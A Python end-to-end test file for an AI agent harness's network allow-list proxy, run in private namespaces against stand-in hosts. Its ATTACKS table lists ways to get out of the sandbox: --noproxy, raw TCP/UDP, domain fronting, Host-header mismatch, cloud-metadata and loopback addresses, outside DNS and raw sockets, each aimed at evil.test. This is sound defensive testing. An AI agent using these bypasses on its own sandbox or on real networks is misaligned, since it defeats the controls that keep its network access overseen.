#!/usr/bin/env python3
"""The network allow-list, end to end, with real clients against real servers.

The whole test runs in namespaces it makes itself (an unprivileged user namespace, so it needs
no root): network namespace A, where agentexec and its proxy run, and B, the "internet", joined
to A by a veth pair. B serves plain HTTP on :80, HTTPS on :443 (a certificate of this test's own
CA naming allowed.test and evil.test) and a raw TCP banner on :22, at two addresses: allowed.test
(198.51.100.2) and evil.test (198.51.100.3). The proxy resolves names through the test hook
AGENTEXEC_NET_FAKE_HOSTS, which also maps loop.test to 127.0.0.1 and meta.test to
169.254.169.254 (docs/SANDBOX.md, "Test hooks"). Nothing leaves the namespaces.

The attacker's side came first: every attack is run once with the whole network open
(network_access = true), where it gets out, and once under the allow-list, where it is held and
shows in the JSONL as a refused network_request: those the proxy refused with its reason, and
those that never reach it (nothing but the proxy is reachable) as the network watch saw them
from the system call (--noproxy, raw TCP, UDP, DNS, ::1, a raw socket).

Usage: allow_list_test.py AGENTEXEC   (re-executes itself inside the namespaces)
"""
import glob
import json
import os
import shutil
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from namespace_suite import run_inside  # noqa: E402
from netns import ALLOWED, EVIL, Net, make_ca, sh, turns  # noqa: E402

AGENTEXEC = ""
# An ICMP echo to evil.test through a raw socket: the bytes sent, or the errno.
RAW_PING = ("python3 -c \"import socket,sys\ntry: print(socket.socket(socket.AF_INET,"
            "socket.SOCK_RAW,1).sendto(bytes([8,0,247,255,0,0,0,0]),('198.51.100.3',0)))\n"
            "except OSError as e: print(e.errno)\"")
DIRECT = "a direct connection past the proxy: the sandbox's network has nothing else"
SOURCE = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
FAKE_HOSTS = f"allowed.test={ALLOWED};evil.test={EVIL};loop.test=127.0.0.1;meta.test=169.254.169.254"

class AllowListTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.dir = tempfile.mkdtemp(prefix="ae-net-")
        make_ca(cls.dir)
        cls.net = Net(cls.dir, loopback_service=True)
        cls.ws = os.path.join(cls.dir, "ws")
        os.makedirs(cls.ws)
        sh(f"git init -q {cls.ws}")

    @classmethod
    def tearDownClass(cls):
        cls.net.close()
        shutil.rmtree(cls.dir, ignore_errors=True)

    def run_agent(self, commands, extra):
        script = os.path.join(self.dir, "turns.json")
        with open(script, "w") as f:
            f.write(turns(commands))
        env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": self.dir,
               "AGENTEXEC_HOME": os.path.join(self.dir, "home"),
               "AGENTEXEC_NET_FAKE_HOSTS": FAKE_HOSTS, "CA": f"{self.dir}/ca.pem"}
        argv = [AGENTEXEC, "exec", "--json", "-s", "workspace-write", "-c",
                "model_provider=scripted", "-c", f'model_providers.scripted.script="{script}"',
                *extra, "go"]
        out = subprocess.run(argv, cwd=self.ws, env=env, capture_output=True, text=True,
                             timeout=120)
        self.assertEqual(out.returncode, 0, out.stderr)
        self.last_events = out.stdout
        events = [json.loads(l) for l in out.stdout.splitlines()]
        done = [e["item"] for e in events if e["type"] == "item.completed"]
        outputs = [i["aggregated_output"] for i in done if i["type"] == "command_execution"]
        requests = [i for i in done if i["type"] == "network_request"]
        return outputs, requests

    ALLOW = ["-c", 'network.allow=["allowed.test", "allowed.test:22", "loop.test", "meta.test"]']
    OPEN = ["-c", "sandbox_workspace_write.network_access=true"]

    def test_allowed_hosts_work_over_http_https_and_socks(self):
        outputs, requests = self.run_agent([
            "curl -sS http://allowed.test/",
            "curl -sS --cacert $CA https://allowed.test/",
            "curl -sS -d 'hello world' http://allowed.test/",
            "python3 -c \"import socket;s=socket.create_connection(('127.0.0.1',"
            "int('$ALL_PROXY'.rsplit(':',1)[1])));s.sendall(bytes([5,1,0]));"
            "assert s.recv(2)==bytes([5,0]);n=b'allowed.test';"
            "s.sendall(bytes([5,1,0,3,len(n)])+n+(22).to_bytes(2,'big'));"
            "r=s.recv(10);print(r[1]);print(s.recv(100).decode().strip())\"",
        ], self.ALLOW)
        self.assertEqual(outputs[0], f"hello from {ALLOWED} via Host allowed.test\n")
        self.assertEqual(outputs[1], f"hello from {ALLOWED} via Host allowed.test\n")
        self.assertEqual(outputs[2], "got 11 bytes: hello world\n")
        self.assertTrue(outputs[3].endswith("0\nSSH-2.0-test-banner\n"), outputs[3])
        ok = [(r["protocol"], r["host"], r["port"], r["decision"], r["address"]) for r in requests
              if r["decision"] == "allowed"]
        self.assertIn(("http", "allowed.test", 80, "allowed", ALLOWED), ok)
        self.assertIn(("https", "allowed.test", 443, "allowed", ALLOWED), ok)
        self.assertIn(("socks5", "allowed.test", 22, "allowed", ALLOWED), ok)
        for r in requests:
            if r["decision"] == "allowed" and r["protocol"] != "socks5":
                self.assertGreater(r["bytes_received"], 0)
        done = [json.loads(l) for l in self.last_events.splitlines()][-1]
        self.assertEqual(done["network"]["reached"],
                         ["allowed.test:22", "allowed.test:443", "allowed.test:80"])

    # Each attack: (name, command, what the command prints when held, the refusal's reason in
    # the JSONL or None when the attempt cannot even reach the proxy, an open-network
    # command showing it gets out there, and what that prints).
    ATTACKS = [
        ("another host", "curl -sS http://evil.test/ -o /dev/null -w '%{http_code}'", "403",
         "not in network.allow",
         f"curl -sS http://{EVIL}/", f"hello from {EVIL} via Host {EVIL}\n"),
        ("--noproxy", f"curl -sS --noproxy '*' --max-time 5 http://{EVIL}/ 2>&1 | head -c 60; echo",
         "curl: (7) Failed to connect to 198.51.100.3 port 80 after",
         ("direct", EVIL, 80, DIRECT),
         f"curl -sS --noproxy '*' http://{EVIL}/", f"hello from {EVIL} via Host {EVIL}\n"),
        ("raw TCP to an IP",
         f"python3 -c \"import socket;socket.create_connection(('{EVIL}',22),timeout=5)\" 2>&1 | tail -1",
         "OSError: [Errno 101] Network is unreachable\n", ("direct", EVIL, 22, DIRECT),
         f"python3 -c \"import socket;print(socket.create_connection(('{EVIL}',22)).recv(100).decode().strip())\"",
         "SSH-2.0-test-banner\n"),
        ("UDP",
         f"python3 -c \"import socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'x',('{EVIL}',9))\" 2>&1 | tail -1",
         "OSError: [Errno 101] Network is unreachable\n",
         ("datagram", EVIL, 9, "a datagram past the proxy: UDP and raw sockets get nothing"),
         f"python3 -c \"import socket;print(socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'x',('{EVIL}',9)))\"",
         "1\n"),
        ("this host's ::1", "curl -sS --max-time 5 'http://[::1]:8080/' 2>&1 | head -c 44; echo",
         "curl: (7) Failed to connect to ::1 port 8080",
         ("direct", "::1", 8080, "nothing listens on [::1]:8080 in the sandbox's own network (the "
          "host's loopback is not reachable from it)"),
         "curl -sS 'http://[::1]:8080/'", "hello from ::1 via Host [::1]:8080\n"),
        ("this host's ::1 through the proxy",
         "curl -sS --noproxy '' 'http://[::1]:8080/' -o /dev/null -w '%{http_code}'",
         "403", "not in network.allow", None, None),
        ("CONNECT to an unlisted port",
         "curl -sS --cacert $CA https://allowed.test:8443/ 2>&1 | head -c 47; echo",
         "curl: (56) CONNECT tunnel failed, response 403\n",
         "port 8443 is not allowed for this host", None, None),
        ("a Host header that does not match",
         "curl -sS -H 'Host: evil.test' http://allowed.test/ -o /dev/null -w '%{http_code}'",
         "403", "the Host header 'evil.test' does not name the request's host allowed.test",
         f"curl -sS -H 'Host: evil.test' http://{ALLOWED}/",
         f"hello from {ALLOWED} via Host evil.test\n"),
        ("a mismatched SNI (domain fronting)",
         "curl -sS --cacert $CA --connect-to evil.test:443:allowed.test:443 https://evil.test/ "
         "2>&1 | head -c 40; echo",
         "curl: (35) OpenSSL SSL_connect: SSL_ERRO",
         "the TLS server name 'evil.test' is not the tunnel's host allowed.test",
         f"curl -sS --cacert $CA --resolve evil.test:443:{ALLOWED} https://evil.test/",
         f"hello from {ALLOWED} via Host evil.test\n"),
        ("plain HTTP inside a tunnel",
         "curl -sS -p http://allowed.test:443/ 2>&1 | head -c 30; echo",
         "curl: (52) Empty reply from se",
         "the tunnel to allowed.test:443 did not start with TLS", None, None),
        ("an allowed name resolving to 127.0.0.1",
         "curl -sS http://loop.test/ -o /dev/null -w '%{http_code}'", "403",
         "loop.test resolves to 127.0.0.1, a loopback address", None, None),
        ("an allowed name resolving to the metadata address",
         "curl -sS http://meta.test/ -o /dev/null -w '%{http_code}'", "403",
         "meta.test resolves to 169.254.169.254, a metadata address", None, None),
        ("DNS to an outside server", "getent hosts example.com; echo $?", "2\n",
         ("dns", None, 53, "a DNS query past the proxy: the sandbox resolves no names, the proxy "
          "does"), None, None),
        # Made where the command keeps CAP_NET_RAW (root in the test's user namespace), refused
        # elsewhere; either way its ICMP echo reaches nothing.
        ("a raw socket", RAW_PING, ("1\n", "101\n"),
         ("raw", "", 0, "a raw socket: the sandbox's network has nothing but the proxy"),
         RAW_PING, "8\n"),
    ]

    def test_every_attack_is_held_and_on_the_record(self):
        outputs, requests = self.run_agent([a[1] for a in self.ATTACKS], self.ALLOW)
        self.assertEqual(len(outputs), len(self.ATTACKS))
        reasons = [r["reason"] for r in requests if r["decision"] == "denied"]
        # Attempts past the proxy, seen by the network watch: (protocol, host, port, reason).
        direct = [(r["protocol"], r["host"], r["port"], r["reason"]) for r in requests
                  if r["decision"] == "denied" and r["address"] is None]
        for (name, _, held, reason, _, _), out in zip(self.ATTACKS, outputs):
            with self.subTest(name):
                self.assertTrue(out.startswith(held), f"{name}: {out!r}")
                if isinstance(reason, tuple):
                    protocol, host, port, why = reason
                    self.assertTrue(any(d[0] == protocol and host in (None, d[1]) and
                                        d[2] == port and d[3] == why for d in direct),
                                    f"{name}: {direct}")
                else:
                    self.assertIn(reason, reasons, f"{name}: {reasons}")
        self.assertNotIn("allowed", [r["decision"] for r in requests if r["host"] == "evil.test"])

    def test_every_attack_gets_out_with_the_network_open(self):
        shown = [a for a in self.ATTACKS if a[4] is not None]
        outputs, requests = self.run_agent([a[4] for a in shown], self.OPEN)
        self.assertEqual(requests, [])
        for (name, _, _, _, _, escaped), out in zip(shown, outputs):
            with self.subTest(name):
                self.assertEqual(out, escaped, name)

    def test_without_a_network_namespace_the_run_fails_closed(self):
        script = os.path.join(self.dir, "hi.json")
        with open(script, "w") as f:
            f.write(json.dumps({"turns": [{"items": [{"type": "message", "text": "hi"}]}]}))
        out = subprocess.run(
            [AGENTEXEC, "exec", "--json", "-s", "workspace-write", "--allow-host", "allowed.test",
             "-c", "model_provider=scripted", "-c", f'model_providers.scripted.script="{script}"',
             "go"], cwd=self.ws, capture_output=True, text=True, timeout=60,
            env={"PATH": "/usr/bin:/bin", "HOME": self.dir, "AGENTEXEC_SANDBOX_FAKE_NO_USERNS": "1",
                 "AGENTEXEC_HOME": os.path.join(self.dir, "home")})
        self.assertEqual(out.returncode, 3, out.stderr)
        last = json.loads(out.stdout.splitlines()[-1])
        self.assertEqual(last["error"]["code"], "sandbox_unavailable")
        self.assertEqual(last["error"]["message"],
                         "sandbox: cannot enforce the network allow-list (network.allow): no "
                         "network namespace can be made here, as no mount namespace could; in "
                         "Docker, run the container with --security-opt seccomp=unconfined "
                         "--security-opt apparmor=unconfined (or --cap-add SYS_ADMIN), or allow "
                         "the whole network with sandbox_workspace_write.network_access = true")

    def test_codex_names_and_read_only(self):
        # codex's network proxy names the same policy allowed_domains and mode = "limited".
        outputs, requests = self.run_agent([
            "curl -sS http://allowed.test/",
            "curl -sS -d x http://allowed.test/ -o /dev/null -w '%{http_code}'",
            "curl -sS --cacert $CA https://allowed.test/ 2>&1 | head -c 47; echo",
        ], ["-c", 'network.allowed_domains=["allowed.test"]', "-c", 'network.mode="limited"'])
        self.assertEqual(outputs, [f"hello from {ALLOWED} via Host allowed.test\n", "403",
                                   "curl: (56) CONNECT tunnel failed, response 403\n\n"])
        self.assertEqual([r["reason"] for r in requests if r["decision"] == "denied"],
                         ["network.methods is read-only: POST is not allowed",
                          "network.methods is read-only: no CONNECT tunnel"])

    def test_codex_permission_profile(self):
        # codex 0.171's layout: the profile default_permissions names, its network's domains.
        profile = ["-c", 'default_permissions="ws"', "-c", "permissions.ws.network.enabled=true",
                   "-c", 'permissions.ws.network.domains={"allowed.test"="allow",'
                         '"evil.test"="deny","other.test"="none"}',
                   "-c", 'permissions.ws.network.mode="limited"',
                   "-c", 'permissions.ws.network.proxy_url="http://127.0.0.1:3128"']
        outputs, requests = self.run_agent([
            "curl -sS http://allowed.test/",
            "curl -sS -d x http://allowed.test/ -o /dev/null -w '%{http_code}'",
            "curl -sS http://evil.test/ -o /dev/null -w '%{http_code}'",
        ], profile)
        self.assertEqual(outputs, [f"hello from {ALLOWED} via Host allowed.test\n", "403", "403"])
        self.assertEqual([r["reason"] for r in requests if r["decision"] == "denied"],
                         ["network.methods is read-only: POST is not allowed",
                          "denied by network.deny"])
        # Enabled without domains: the whole network, as codex without its proxy.
        outputs, requests = self.run_agent(
            [f"curl -sS http://{EVIL}/"],
            ["-c", 'default_permissions="open"', "-c", "permissions.open.network.enabled=true"])
        self.assertEqual(outputs, [f"hello from {EVIL} via Host {EVIL}\n"])
        self.assertEqual(requests, [])

    def test_a_refusal_reaches_the_model_with_its_remedy(self):
        # The scripted provider records what the model was sent in the rollout; the refusal's
        # hint follows the command's output there.
        outputs, requests = self.run_agent(["curl -sS http://evil.test/"], self.ALLOW)
        self.assertEqual(outputs, ["agentexec: network: evil.test:80 refused (not in network.allow); "
                                   "to allow it, add \"evil.test\" to network.allow "
                                   "(--allow-host evil.test)\n"])
        self.assertEqual([(r["protocol"], r["host"], r["port"], r["method"], r["decision"],
                           r["rule"], r["reason"]) for r in requests],
                         [("http", "evil.test", 80, "GET", "denied", None, "not in network.allow")])
        done = [json.loads(l) for l in self.last_events.splitlines()][-1]
        self.assertEqual(done["type"], "turn.completed")
        self.assertEqual(done["network"], {"reached": [], "refused": ["evil.test:80"]})
        # The CI wrappers' job summary lists the refusals.
        events = os.path.join(self.dir, "events.jsonl")
        with open(events, "w") as f:
            f.write(self.last_events)
        summary = subprocess.run(["bash", os.path.join(SOURCE, "scripts/summarize-events.sh"),
                                  "markdown", events], capture_output=True, text=True, check=True)
        self.assertIn("\n#### Network refused (1 of 1 connections)\n| host | port | why |\n"
                      "|---|---:|---|\n| <code>evil.test</code> | 80 | not in network.allow |\n",
                      summary.stdout)

    def test_a_background_commands_refusals_reach_the_model_when_it_ends(self):
        # exec_command yields before the command connects; the write_stdin that sees it end
        # carries its refusals, the proxy's and the one past it, as a foreground command's.
        script = os.path.join(self.dir, "background.json")
        cmd = (f"sleep 1; curl -sS --noproxy '*' --max-time 3 http://{EVIL}/ 2>/dev/null; "
               "curl -sS http://evil.test/ >/dev/null; echo finished")
        with open(script, "w") as f:
            json.dump({"turns": [
                {"items": [{"type": "function_call", "name": "exec_command",
                            "arguments": {"cmd": cmd, "yield_time_ms": 100}}]},
                {"items": [{"type": "function_call", "name": "write_stdin",
                            "arguments": {"session_id": 1000, "yield_time_ms": 20000}}]},
                {"items": [{"type": "message", "text": "Done."}]}]}, f)
        home = os.path.join(self.dir, "home-background")
        out = subprocess.run(
            [AGENTEXEC, "exec", "--json", "-s", "workspace-write", "-c", "model_provider=scripted",
             "-c", f'model_providers.scripted.script="{script}"', *self.ALLOW, "go"],
            cwd=self.ws, capture_output=True, text=True, timeout=120,
            env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": self.dir, "AGENTEXEC_HOME": home,
                 "AGENTEXEC_NET_FAKE_HOSTS": FAKE_HOSTS})
        self.assertEqual(out.returncode, 0, out.stderr)
        rollout = glob.glob(f"{home}/sessions/**/rollout-*.jsonl", recursive=True)
        self.assertEqual(len(rollout), 1)
        with open(rollout[0]) as f:
            sent = [e["payload"]["output"] for e in map(json.loads, f)
                    if e.get("type") == "response_item"
                    and e["payload"].get("type") == "function_call_output"]
        self.assertIn("Process running with session ID 1000", sent[0])
        self.assertIn("finished\n", sent[1])
        self.assertIn(f"\nagentexec: network: {EVIL}:80 refused ({DIRECT}); commands reach the "
                      "network only through the proxy at 127.0.0.1:", sent[1])
        self.assertIn("\nagentexec: network: evil.test:80 refused (not in network.allow); to allow "
                      "it, add \"evil.test\" to network.allow (--allow-host evil.test)", sent[1])
        items = [json.loads(l)["item"] for l in out.stdout.splitlines()
                 if json.loads(l)["type"] == "item.completed"]
        self.assertEqual(sorted((i["protocol"], i["host"]) for i in items
                                if i["type"] == "network_request"),
                         [("direct", EVIL), ("http", "evil.test")])


class BatchNetworkTest(unittest.TestCase):
    """batch's records and report sum what each task's commands reached and were refused."""

    @classmethod
    def setUpClass(cls):
        cls.dir = tempfile.mkdtemp(prefix="ae-net-batch-")
        make_ca(cls.dir)
        cls.net = Net(cls.dir)

    @classmethod
    def tearDownClass(cls):
        cls.net.close()
        shutil.rmtree(cls.dir, ignore_errors=True)

    def test_records_and_report_sum_the_hosts(self):
        repo = os.path.join(self.dir, "repo")
        sh(f"git init -q {repo} && cd {repo} && echo hi > f && git add f && "
           "git -c user.name=t -c user.email=t@example.com commit -qm init")
        script = os.path.join(self.dir, "turns.json")
        with open(script, "w") as f:
            f.write(turns(["curl -sS http://allowed.test/ >/dev/null; curl -sS http://evil.test/ "
                           ">/dev/null; true"]))
        manifest = os.path.join(self.dir, "m.jsonl")
        with open(manifest, "w") as f:
            # The task only connects: it changes nothing, and says so.
            f.write(json.dumps({"id": "a", "repo": repo, "prompt": "p",
                                "expect_change": False}) + "\n")
        out = os.path.join(self.dir, "out")
        env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": self.dir,
               "AGENTEXEC_HOME": os.path.join(self.dir, "home"),
               "AGENTEXEC_NET_FAKE_HOSTS": FAKE_HOSTS}
        ran = subprocess.run([AGENTEXEC, "batch", "run", manifest, "--out", out, "-s",
                              "workspace-write", "--allow-host", "allowed.test", "-c",
                              "model_provider=scripted", "-c",
                              f'model_providers.scripted.script="{script}"'],
                             cwd=self.dir, env=env, capture_output=True, text=True, timeout=120)
        self.assertEqual(ran.returncode, 0, ran.stderr)
        with open(os.path.join(out, "results.jsonl")) as f:
            record = json.loads(f.readline())
        self.assertEqual(record["network"], {"reached": ["allowed.test:80"],
                                             "refused": ["evil.test:80"]})
        with open(os.path.join(out, "tasks", "a", "result.json")) as f:
            self.assertEqual(json.loads(f.read())["network"], record["network"])
        report = subprocess.run([AGENTEXEC, "batch", "report", out], env=env,
                                capture_output=True, text=True, check=True).stdout
        self.assertIn("\n### Network\n\n| Host | Reached by | Refused to |\n| --- | ---: | ---: |\n"
                      "| allowed.test:80 | 1 | 0 |\n| evil.test:80 | 0 | 1 |\n", report)


def main():
    global AGENTEXEC
    AGENTEXEC = os.path.abspath(sys.argv[1])
    return run_inside(("unshare", "nsenter", "ip", "curl", "openssl"))


if __name__ == "__main__":
    sys.exit(main())
